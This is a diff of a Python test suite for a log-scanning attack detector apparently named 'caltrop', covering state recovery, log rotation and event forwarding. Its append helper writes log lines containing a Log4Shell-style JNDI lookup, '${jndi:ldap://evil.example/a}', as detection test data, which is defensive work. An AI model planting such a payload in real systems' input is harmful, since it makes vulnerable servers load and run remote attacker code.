@@ -4,7 +4,6 @@ import gzip
 import json
 import os
 import random
-import re
 import shutil
 import signal
 import socket
@@ -198,7 +197,10 @@ class State(Case):
         seed = random.randrange(1 << 32)
         print("seed %d" % seed, file=sys.stderr)
         lot = random.Random(seed)
-        by_id, n = {}, 0
+        by_id, n = {}, 1
+        self.append(0)
+        with open(self.path("out"), "wb") as out:  # a run killed before it could begin knows of nothing
+            self.run_cli("detect", "-q", "--json", "--state", self.state, self.log, stdout=out)
         with open(self.path("out"), "ab") as out:
             for round_ in range(12):
                 for _ in range(lot.randrange(300, 1500)):
@@ -214,7 +216,7 @@ class State(Case):
                     whole = f.read().rpartition(b"\n")[0] + b"\n"
                 os.truncate(self.path("out"), len(whole) if len(whole) > 1 else 0)  # a receiver drops a torn line
                 if lot.random() < 0.5:
-                    for k in range(5, 0, -1):
+                    for k in range(20, 0, -1):
                         if os.path.exists("%s.%d" % (self.log, k)):
                             os.rename("%s.%d" % (self.log, k), "%s.%d" % (self.log, k + 1))
                     os.rename(self.log, self.log + ".1")
@@ -228,7 +230,7 @@ class State(Case):
                 path = e["caltrop"]["indicators"][0]["path"]
                 self.assertEqual(by_id.setdefault(e["event"]["id"], path), path)
                 lines[path] += 1
-        self.assertEqual(set(lines), set(self.written))
+        self.assertEqual(sorted(set(self.written) - set(lines))[:20], [])
         self.assertEqual(len(by_id), len(self.written))  # duplicates merge
 
     def test_follow_goes_on_where_it_was_killed(self):
@@ -308,7 +310,7 @@ class Outlets(Case):
 
     def append(self, *numbers, host="evil.example"):
         with open(self.log, "a") as f:
-            f.write("".join(attack(n, host) for n in numbers))
+            f.write("".join(line(n, "${jndi:ldap://%s/a}" % host) for n in numbers))
 
     def sent(self):
         if not os.path.exists(self.path("out")):
@@ -323,7 +325,7 @@ class Outlets(Case):
         self.assertEqual(self.sent()[0]["caltrop"]["repeats"], 1)
         self.append(*range(2, 500))
         self.append(501, host="other.example")
-        f.await_paths("/n499", "/n501")
+        self.await_that(lambda: len(f.paths()) == 500, "all events")
         self.await_that(lambda: len(self.sent()) == 2, "the second campaign")
         f.stop()
         sent = self.sent()
@@ -370,10 +372,10 @@ class Outlets(Case):
         url = "http://127.0.0.1:%d/secret-path" % port
         f = self.follow("--to", url, self.log)
         self.append(1)
-        f.await_paths("/n1")
+        f.await_paths("/a")
         f.await_message("events wait: ")
         self.append(2, host="other.example")
-        f.await_paths("/n2")
+        self.await_that(lambda: len(f.paths()) == 2, "the second event")
         self.assertEqual(f.stop(), 1)
         told = [m for m in f.messages if "wait for the next run" in m]
         self.assertEqual(len(told), 1, f.messages)
